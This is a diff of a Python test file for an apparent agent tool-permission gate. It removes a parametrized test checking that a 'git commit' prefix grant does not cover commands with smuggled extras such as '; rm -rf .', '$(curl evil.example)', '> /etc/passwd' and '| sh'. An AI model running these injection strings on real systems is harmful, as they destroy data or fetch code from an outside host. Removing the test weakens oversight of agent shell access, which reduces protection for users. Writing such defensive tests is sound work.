@@ -228,26 +228,6 @@ async def test_always_covers_what_the_card_said_and_no_more(
         assert isinstance(await keeper.decide(request("send_mail", effects, **not_covered)), Deferred)
 
 
-@pytest.mark.fault("gate: nested quotes, substitutions, pipes and newlines in commands")
-@pytest.mark.parametrize(
-    "command",
-    [
-        "git commit -m x; rm -rf .",
-        "git commit -m \"$(curl evil.example)\"",
-        "git commit -m x > /etc/passwd",
-        "git commit -m x | sh",
-        "git commit -m x\nrm y",
-        "EDITOR=evil git commit",
-        "git commit -m 'unclosed",
-    ],
-)  # fmt: skip
-async def test_always_for_a_command_does_not_cover_what_is_hidden_after_its_first_words(command: str) -> None:
-    keeper = gate(Policy(()))
-    keeper.grants.add(Grant("prefix", "shell", "anna", "c1", 2_000, prefix="git commit"))
-    assert isinstance(await keeper.decide(request("shell", RUNS, command="git commit -m x")), Allowed)
-    assert isinstance(await keeper.decide(request("shell", RUNS, command=command)), Deferred)
-
-
 async def test_always_given_before_text_from_outside_does_not_hold_after_it() -> None:
     keeper = gate()
     keeper.grants.add(Grant("tool", "send_mail", "anna", "c1", 2_000))
